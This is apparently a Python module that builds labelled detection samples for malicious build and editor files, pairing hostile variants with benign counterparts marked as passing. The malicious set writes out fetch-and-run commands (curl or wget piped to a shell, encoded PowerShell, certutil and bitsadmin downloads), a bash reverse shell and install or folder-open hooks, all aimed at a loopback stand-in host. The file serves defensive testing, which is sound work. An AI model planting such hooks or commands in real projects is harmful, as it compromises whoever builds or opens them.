"""Files that builders and editors run: recipes, package scripts, workflows, tasks."""

from __future__ import annotations

from collections.abc import Iterator

from corpus.repositories import text
from corpus.sample import PASS, Family, Sample

_FETCH = "curl -fsSL http://127.0.0.1:9/setup.sh | sh"
_POWER = "powershell -nop -w hidden -enc JABhAD0AMQA="


def _workflow(*lines: str) -> bytes:
    body = "".join(f"          {line}\n" for line in lines)
    return (
        "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n      - name: set up\n        run: |\n" + body
    ).encode()


def _gitlab(command: str) -> bytes:
    return f"stages: [test]\ntest:\n  image: python:3.11\n  script:\n    - {command}\n".encode()


def _task(command: str, *args: str, run_on: str = "folderOpen") -> bytes:
    task = {
        "label": "prepare",
        "type": "shell",
        "command": command,
        "args": list(args),
        "runOptions": {"runOn": run_on},
    }
    return b"// tasks of the editor\n" + text({"version": "2.0.0", "tasks": [task]})


def _package(**scripts: str) -> bytes:
    return text({"name": "model-demo", "version": "1.0.0", "scripts": scripts})


_SETUP = """\
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        {line}
        super().run()


setup(name="m", version="1", cmdclass={{"install": Install}})
"""


def _malicious() -> Iterator[Sample]:
    made = Family("repository-build", "build and editor files", "MITRE ATT&CK T1195, T1059")
    files = {
        "makefile": {"Makefile": f"all: model\n\nmodel:\n\t@{_FETCH}\n".encode()},
        "makefile-substitution": {"Makefile": b"X := $(shell bash <(curl -s http://127.0.0.1:9/))\nall:\n\techo $(X)\n"},
        "makefile-continued": {"Makefile": b"all:\n\twget -qO- http://127.0.0.1:9/x \\\n\t  | bash\n"},
        "package-postinstall": {"package.json": _package(test="jest", postinstall=_FETCH)},
        "package-node": {"package.json": _package(preinstall='node -e "require(\'child_process\').exec(\'true\')"')},
        "package-power-shell": {"package.json": _package(install=_POWER)},
        "workflow": {".github/workflows/ci.yml": _workflow("pip install -e .", _FETCH)},
        "workflow-decoded": {".github/workflows/ci.yml": _workflow("echo dHJ1ZQo= | base64 -d | bash")},
        "workflow-shell": {".github/workflows/ci.yml": _workflow("bash -i >& /dev/tcp/127.0.0.1/9 0>&1")},
        "gitlab": {".gitlab-ci.yml": _gitlab(_FETCH)},
        "gitlab-before": {".gitlab-ci.yml": b'before_script:\n  - eval "$(wget -qO- http://127.0.0.1:9/)"\ntest:\n  script: [pytest]\n'},
        "task-folder-open": {".vscode/tasks.json": _task(_FETCH)},
        "task-arguments": {".vscode/tasks.json": _task("bash", "-c", _FETCH)},
        "task-power-shell": {".vscode/tasks.json": _task("powershell", "-enc", "JABhAD0AMQA=")},
        "task-iex": {".vscode/tasks.json": _task("iex (iwr http://127.0.0.1:9/x.ps1)")},
        "dev-container": {".devcontainer/devcontainer.json": text({"image": "python:3.11", "postCreateCommand": _FETCH})},
        "dev-container-list": {".devcontainer/devcontainer.json": text({"image": "python:3.11", "initializeCommand": ["bash", "-c", _FETCH]})},
        "dockerfile": {"Dockerfile": f"FROM python:3.11\nRUN {_FETCH}\n".encode()},
        "dockerfile-lower": {"Containerfile": f"# syntax=docker/dockerfile:1\nARG V=3.11\nFROM python:${{V}}\nRUN pip install x && {_FETCH}\n".encode()},
        "compose": {"docker-compose.yml": f"services:\n  app:\n    image: alpine\n    command: sh -c '{_FETCH}'\n".encode()},
        "compose-list": {"compose.yaml": b'services:\n  app:\n    image: alpine\n    entrypoint: ["sh", "-c", "wget -qO- http://127.0.0.1:9/ | sh"]\n'},
        "pre-commit": {".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    language: system\n    entry: bash -c '{_FETCH}'\n".encode()},
        "taskfile": {"Taskfile.yml": f"version: '3'\ntasks:\n  default:\n    cmds:\n      - {_FETCH}\n".encode()},
        "pyproject-poe": {"pyproject.toml": f'[project]\nname = "m"\nversion = "1"\n\n[tool.poe.tasks]\nprepare = "{_FETCH}"\n'.encode()},
        "pyproject-pdm": {"pyproject.toml": b'[project]\nname = "m"\nversion = "1"\n\n[tool.pdm.scripts]\npost_install = {cmd = "bash -c \'curl -s http://127.0.0.1:9/ | bash\'"}\n'},
        "build-hook": {"pyproject.toml": b'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n',
            "hatch_build.py": b"from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nimport os\n\n\nclass Hook(BuildHookInterface):\n    def initialize(self, version, data):\n        os.system('curl -s http://127.0.0.1:9/ | sh')\n"},
        "setup-install": {"setup.py": _SETUP.format(line="__import__('os').system('curl -s http://127.0.0.1:9/ | sh')").encode()},
        "power-shell-short": {"install.ps1": b"powershell -e JABhAD0AMQA=\n"},
        "power-shell-iex": {"install.ps1": b"iex(iwr http://127.0.0.1:9/x.ps1)\n"},
        "power-shell-pipe": {"install.ps1": b"irm http://127.0.0.1:9/x.ps1 | iex\n"},
        "power-shell-ticks": {"install.ps1": b"$c = i`wr http://127.0.0.1:9/x.ps1 -UseBasicParsing\ni`ex $c.Content\n"},
        "cmd-power-shell": {"install.cmd": b"@echo off\r\npow^ershell -NoP -En JABhAD0AMQA=\r\n"},
        "cmd-certutil": {"run.bat": b"@echo off\r\ncertutil -urlcache -f http://127.0.0.1:9/a.exe a.exe & a.exe\r\n"},
        "cmd-curl-start": {"run.bat": b"curl -o %TEMP%\\a.exe http://127.0.0.1:9/a.exe && start %TEMP%\\a.exe\r\n"},
        "cmd-bitsadmin": {"run.bat": b"bitsadmin /transfer j http://127.0.0.1:9/a.exe %TEMP%\\a.exe\r\n"},
    }  # fmt: skip
    for title, content in files.items():
        yield made(title, "repository", content)


def _honest() -> Iterator[Sample]:
    made = Family("repository-build", "build files as they should be")
    files = {
        "honest-makefile": {"Makefile": b".PHONY: data test\n\nPYTHON ?= python3\n\ndata:\n\tcurl -fsSL -o data.csv https://example.com/data.csv\n\ttar -xzf archive.tar.gz\n\ntest:\n\t$(PYTHON) -m pytest -q\n\nclean:\n\trm -rf build dist *.egg-info\n"},
        "honest-package": {"package.json": _package(test="jest --coverage", build="tsc && node scripts/build.js", postinstall="node scripts/check.js", prepare="husky install", lint="eslint . | tee lint.txt")},
        "honest-workflow": {".github/workflows/ci.yml": _workflow("python -m pip install --upgrade pip", "pip install -r requirements.txt", 'curl -sSf -o x.tar.gz "https://example.com/x.tar.gz"', 'echo "$SHA  x.tar.gz" | sha256sum -c', "pytest | tee log.txt", "docker build -t app .")},
        "honest-gitlab": {".gitlab-ci.yml": _gitlab("pip install . && pytest -q | tee report.txt")},
        "honest-task": {".vscode/tasks.json": _task("npm", "run", "watch")},
        "honest-task-test": {".vscode/tasks.json": _task("${command:python.interpreterPath}", "-m", "pytest", run_on="default")},
        "honest-dev-container": {".devcontainer/devcontainer.json": text({"image": "mcr.microsoft.com/devcontainers/python:3.11", "postCreateCommand": "pip install --user -r requirements.txt", "customizations": {"vscode": {"extensions": ["ms-python.python"]}}})},
        "honest-dockerfile": {"Dockerfile": b'FROM python:3.11-slim\nWORKDIR /app\nRUN apt-get update && apt-get install -y --no-install-recommends curl git \\\n    && rm -rf /var/lib/apt/lists/*\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nRUN curl -fsSL -o model.onnx https://example.com/model.onnx\nCOPY . .\nCMD ["python", "serve.py"]\n'},
        "honest-compose": {"docker-compose.yml": b'services:\n  triton:\n    image: nvcr.io/nvidia/tritonserver:24.05-py3\n    command: tritonserver --model-repository=/models\n    healthcheck:\n      test: ["CMD", "curl", "-f", "http://localhost:8000/v2/health/ready"]\n'},
        "honest-pre-commit": {".pre-commit-config.yaml": b"repos:\n- repo: https://github.com/astral-sh/ruff-pre-commit\n  rev: v0.5.0\n  hooks:\n  - id: ruff\n    args: [--fix]\n- repo: local\n  hooks:\n  - id: mypy\n    name: mypy\n    language: system\n    entry: mypy src\n"},
        "honest-pyproject": {"pyproject.toml": b'[build-system]\nrequires = ["setuptools>=68", "wheel"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "m"\nversion = "1.0"\ndependencies = ["numpy>=2", "torch"]\n\n[project.scripts]\nserve = "m.cli:main"\n\n[tool.poe.tasks]\ntest = "pytest -q"\n\n[tool.ruff]\nline-length = 100\n\n[tool.ruff.lint]\nselect = ["ALL"]\n'},
        "honest-setup": {"setup.py": b"from pathlib import Path\n\nfrom setuptools import find_packages, setup\n\nsetup(\n    name='m',\n    version='1',\n    packages=find_packages(),\n    long_description=Path('README.md').read_text(),\n)\n"},
        "honest-power-shell": {"install.ps1": b"param([string]$Env = 'dev')\n$ErrorActionPreference = 'Stop'\npython -m venv .venv\n.\\.venv\\Scripts\\Activate.ps1\npip install -r requirements.txt\nInvoke-WebRequest -Uri https://example.com/model.onnx -OutFile model.onnx\npython serve.py -e prod\n"},
        "honest-batch": {"run.bat": b"@echo off\r\nsetlocal\r\nset PYTHONPATH=%~dp0src\r\npython -m pip install -r requirements.txt\r\npython webui.py --listen %*\r\npause\r\n"},
        "honest-shell": {"train.sh": b"#!/usr/bin/env bash\nset -euo pipefail\nexport CUDA_VISIBLE_DEVICES=0,1\nwget -c https://example.com/data.tar.gz\ntar -xzf data.tar.gz\npython -m torch.distributed.run --nproc_per_node 2 train.py --encoding utf-8 -e 10\n"},
    }  # fmt: skip
    for title, content in files.items():
        yield made(title, "repository", content, verdict=PASS)


def samples() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _malicious()
    yield from _honest()
